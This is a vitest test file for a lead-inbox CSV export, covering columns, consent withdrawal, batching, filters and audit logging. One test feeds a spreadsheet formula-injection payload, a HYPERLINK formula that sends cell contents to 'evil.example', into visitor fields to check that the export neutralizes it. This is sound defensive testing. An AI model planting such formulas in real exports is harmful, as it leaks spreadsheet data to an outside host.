import { beforeAll, describe, expect, test } from "vitest";
import { readTable } from "../../../../e2e/support/read-csv.ts";
import { questions } from "../../../domain/submissions/core/questions.ts";
import type { SubmissionRef } from "../../../domain/submissions/core/submission-ref.ts";
import { parseInboxQuery } from "../../../domain/submissions/inbox/inbox-query.ts";
import { newOperator } from "../../access/operator.fixture.ts";
import { database } from "../../db.ts";
import { DeskRecords, hoursAgo, newWord, now, readExport } from "../core/desk.fixture.ts";
import { exportColumnNames, exportSubmissions } from "./export-submissions.ts";

const records = new DeskRecords(process.env.DATABASE_URL);
const operator = await records.operator();

type Params = Record<string, string | string[]>;

const open = (params: Params, limit?: number, by = operator) =>
  exportSubmissions(parseInboxQuery(params), { operator: by, now }, { limit });
const readRows = (params: Params, limit?: number) => readExport(open(params, limit));
const toRefs = (rows: Record<string, string>[]) => rows.map(({ kind, id }) => ({ kind, id: Number(id) }));
const findExported = async (params: Params) => toRefs(await readRows(params));

describe("line of the exported file", () => {
  test("exports every column of an evaluation under stable names", async () => {
    const owner = await records.operator({ name: "Olga Owner" });
    const { id } = await records.evaluation({
      owner_id: owner.id,
      name: "Ana Ruiz",
      company: "Casa Ruiz",
      email: "ana.ruiz@example.com",
      phone: "+502 5555 1234",
      channel: "ai_agent",
      agent_name: "Some Assistant",
      user_consent: true,
      answers: [0, 1, 2, 0.5, 1, 2, 0, 1, 2],
      score: 9.5,
      status: "lost",
      replied_at: hoursAgo(0.5),
      close_reason: "No budget",
      landing_page: "/es?utm_source=x",
      referrer: "https://example.org/",
      utm: { utm_source: "news & more", gclid: "a=b" },
      notice_version: "2026-09-01",
      consent_confirmed_at: now,
      consent_notice_version: "2026-10-01",
      assisted_by: "Claude",
      host_evidence: "egress",
      assistant_host: "Claude",
    });
    const answers = [0, 1, 2, 0.5, 1, 2, 0, 1, 2].map(String);
    expect(await readRows({ owner: owner.id })).toEqual([
      {
        kind: "evaluation",
        id: String(id),
        created_at: "2026-11-21T11:00:00.000Z",
        status: "lost",
        route: "review",
        score: "9.5",
        owner: "Olga Owner",
        name: "Ana Ruiz",
        role: "Brand manager",
        company: "Casa Ruiz",
        email: "ana.ruiz@example.com",
        phone: "+502 5555 1234",
        text: "A loyalty programme for three countries.",
        topic: "",
        discovery_source: "A friend",
        language: "es",
        channel: "ai_agent",
        agent_name: "Some Assistant",
        user_consent: "true",
        source_page: "/es/evaluation",
        landing_page: "/es?utm_source=x",
        referrer: "https://example.org/",
        utm: "gclid=a%3Db&utm_source=news+%26+more",
        ...Object.fromEntries(questions.map(({ key }, at) => [key, answers[at]])),
        replied_at: "2026-11-21T11:30:00.000Z",
        closed_at: "2026-11-21T12:00:00.000Z",
        close_reason: "No budget",
        privacy_notice_version: "2026-09-01",
        consent: "confirmed",
        consent_confirmed_at: "2026-11-21T12:00:00.000Z",
        consent_notice_version: "2026-10-01",
        review_min: "7",
        qualified_min: "13",
        assisted_by: "Claude",
        repeat_of: "",
        spam_reasons: "",
        host_evidence: "egress",
        assistant_host: "Claude",
        reply_due_at: "2026-11-23T11:00:00.000Z",
      },
    ]);
    expect(exportColumnNames).toHaveLength(new Set(exportColumnNames).size);
  });

  test("leaves withdrawn submissions out of the file at every batch size", async () => {
    const owner = await records.operator();
    const withdrawn = { owner_id: owner.id, consent_withdrawn_at: now };
    const kept = await records.evaluation({ owner_id: owner.id, created_at: hoursAgo(3) });
    const other = await records.inquiry({ owner_id: owner.id, created_at: hoursAgo(9) });
    for (const hours of [1, 2, 4, 5, 6, 7]) {
      await records[hours % 2 ? "evaluation" : "inquiry"]({ ...withdrawn, created_at: hoursAgo(hours) });
    }
    for (const limit of [1, 2, 3, 100]) {
      expect(toRefs(await readRows({ owner: owner.id }, limit))).toEqual([kept, other]);
    }
  });

  test("exports an inquiry with empty cells for the columns of evaluations", async () => {
    const owner = await records.operator();
    const { id } = await records.inquiry({ owner_id: owner.id, topic: "prize-draws" });
    const [row] = await readRows({ owner: owner.id });
    expect(row).toMatchObject({ kind: "inquiry", id: String(id), text: "What does it cost?", topic: "prize-draws" });
    expect(row).toMatchObject({ user_consent: "", utm: "", replied_at: "", close_reason: "" });
    expect(row).toMatchObject({ consent: "not_needed", consent_confirmed_at: "", consent_notice_version: "" });
    const ofLeads = [
      "review_min",
      "qualified_min",
      "route",
      "score",
      "role",
      "company",
      "phone",
      "discovery_source",
      ...questions.map((q) => q.key),
    ];
    for (const name of ofLeads) expect([name, row?.[name]]).toEqual([name, ""]);
  });

  test.each([
    ['say "a, b; c"\r\ntwo', 'say "a, b; c"\r\ntwo'],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', `'=HYPERLINK("https://evil.example?"&A1,"x")`],
  ])("exports a visitor's text %j as %j in each column", async (written, shown) => {
    const owner_id = (await records.operator()).id;
    const shared = { owner_id, name: written, agent_name: written, channel: "ai_agent", user_consent: true };
    const pages = { source_page: written, landing_page: written, referrer: written };
    const lead = { role: written, company: written, text: written, discovery_source: written };
    await records.evaluation({ ...shared, ...pages, ...lead, phone: written, utm: { [written]: "x" } });
    await records.inquiry({ ...shared, ...pages, text: written, created_at: hoursAgo(2) });
    const [first, second] = await readRows({ owner: owner_id });
    const ofBoth = ["name", "agent_name", "source_page", "landing_page", "referrer", "text"];
    for (const name of [...ofBoth, "role", "company", "discovery_source", "phone"]) expect(first?.[name]).toBe(shown);
    for (const name of ofBoth) expect(second?.[name]).toBe(shown);
    expect(first?.utm).toMatch(/^'?[^=+@\s]/);
  });
});

test("keeps the plus of a valid phone number, but neutralizes a formula", async () => {
  const owner_id = (await records.operator()).id;
  const phones = ["(044) 55-1234-5678", "+52-55-1234-5678", "2222 3333", "+1+1", "+502 5555 1234=1+1"];
  for (const [at, phone] of phones.entries()) await records.evaluation({ owner_id, phone, created_at: hoursAgo(at) });
  const rows = await readRows({ owner: owner_id });
  const shown = ["+52 55 1234 5678", "+52 55 1234 5678", "2222 3333", "'+1+1", "'+502 5555 1234=1+1"];
  expect(rows.map(({ phone }) => phone)).toEqual(shown);
});

test("applies the inbox's filters, search and sort order to the exported file", async () => {
  const [owner, q] = [(await records.operator()).id, newWord()];
  const lead = await records.evaluation({ owner_id: owner, name: q, status: "won" });
  const inquiry = await records.inquiry({ owner_id: owner, name: q, created_at: hoursAgo(3) });
  expect(await findExported({ owner, status: ["won", "lost"] })).toEqual([lead]);
  expect(await findExported({ owner, to: "2026-11-20" })).toEqual([]);
  expect(await findExported({ q, kind: "inquiry" })).toEqual([inquiry]);
  expect(await findExported({ q: "?!" })).toEqual([]);
  expect(await findExported({ owner, sort: "oldest" })).toEqual([inquiry, lead]);
  const page = { cursor: `inquiry-${now.getTime()}-1`, direction: "backward" };
  expect(await findExported({ owner, ...page })).toEqual([lead, inquiry]);
});

test("exports only the header when nothing matches", async () => {
  const parts = open({ agent: newWord() });
  expect((await parts.next()).value).toBe(`\ufeff${exportColumnNames.join()}\r\n`);
  expect((await parts.next()).done).toBe(true);
});

describe("batches of an export", () => {
  let owner: string;
  let refs: SubmissionRef[];
  beforeAll(async () => {
    owner = (await records.operator()).id;
    const stored: (SubmissionRef & { at: number })[] = [];
    // All rows share two times, so every batch ends between rows of equal time.
    for (let count = 0; count < 17; count++) {
      const created_at = hoursAgo(1 + (count % 2));
      const change = { owner_id: owner, created_at, status: count % 4 ? "new" : "in_review" };
      const ref =
        count % 5 < 3 ? await records.evaluation(change) : await records.inquiry({ ...change, replied_at: now });
      stored.push({ ...ref, at: created_at.getTime() });
    }
    const kindOrder = ({ kind }: SubmissionRef) => (kind === "inquiry" ? 1 : 0);
    stored.sort((a, b) => b.at - a.at || kindOrder(b) - kindOrder(a) || b.id - a.id);
    refs = stored.map(({ kind, id }) => ({ kind, id }));
  });

  test.each([1, 8, 17])("exports every row once and in order, in batches of %d rows", async (limit) => {
    for (const status of ["", "open"]) {
      expect(toRefs(await readRows({ owner, status }, limit))).toEqual(refs);
      expect(toRefs(await readRows({ owner, status, sort: "oldest" }, limit))).toEqual(refs.toReversed());
      expect(toRefs(await readRows({ owner, status, sort: "due" }, limit))).toEqual([
        ...refs.filter(({ kind }) => kind === "evaluation").reverse(),
        ...refs.filter(({ kind }) => kind === "inquiry"),
      ]);
    }
    const parts = open({ owner }, limit);
    for (let part = 0; part < Math.ceil(17 / limit); part++) expect((await parts.next()).done).toBe(false);
    expect((await parts.next()).done).toBe(true);
  });

  test("reads batches of an export only on demand", async () => {
    const name = newWord();
    for (let count = 0; count < 3; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
    const parts = open({ q: name }, 2);
    await parts.next();
    const late = await records.evaluation({ name, created_at: hoursAgo(9) });
    const { value } = await parts.next();
    expect(value).toContain(`evaluation,${late.id},`);
  });
});

test("exports each submission once even if it is answered during the export", async () => {
  const name = newWord();
  for (let count = 0; count < 3; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
  const parts = open({ q: name, sort: "due" }, 1);
  let text = (await parts.next()).value ?? "";
  await records.client.query("UPDATE submissions SET replied_at = $1, status = 'booked' WHERE name = $2", [now, name]);
  for await (const part of parts) text += part;
  const ids = readTable(text.slice(1)).map(({ id }) => id);
  expect(ids).toHaveLength(3);
  expect(new Set(ids).size).toBe(3);
});

test("ends the export when the session ends", async () => {
  const { operator: by } = await newOperator("member");
  const name = newWord();
  for (let count = 0; count < 4; count++) await records.evaluation({ name, created_at: hoursAgo(count) });
  const query = parseInboxQuery({ q: name });
  const parts = exportSubmissions(query, { operator: by, now }, { limit: 1, checkMilliseconds: 0 });
  await parts.next();
  expect((await parts.next()).done).toBe(false);
  await database((db) => db.operator.update({ where: { id: by.id }, data: { disabledAt: now } }), "desk");
  await expect(parts.next()).rejects.toMatchObject({ kind: "unauthorized" });
});

describe("audit log of an export", () => {
  test("audits the filters of an export before the first row, without the search", async () => {
    const by = await records.operator();
    const [q, agent] = [newWord(), `Agent ${newWord()}`];
    const params = {
      q,
      agent,
      status: ["won", "lost"],
      owner: "me",
      source: `named:${agent}`,
      sourceNot: ["direct", "agent:x"],
      reason: agent,
      sort: "oldest",
      cursor: "evaluation-1-1",
    };
    const parts = open(params, undefined, by);
    expect(await records.listAudit(by)).toEqual([]);
    await parts.next();
    const filters = "status=closed&agent=*&owner=me&source=*&sourceNot=*&reason=*&q=*&sort=oldest";
    expect(await records.listAudit(by)).toEqual([
      { at: now, actor: by.email, action: "submissions_exported", details: { filters } },
    ]);
    await parts.return();
    expect(await records.listAudit(by)).toHaveLength(1);
  });

  test("records that an export had no filters", async () => {
    const by = await records.operator();
    const parts = open({}, 1, by);
    await parts.next();
    await parts.return();
    expect(await records.listAudit(by)).toMatchObject([{ details: { filters: "none" } }]);
  });
});
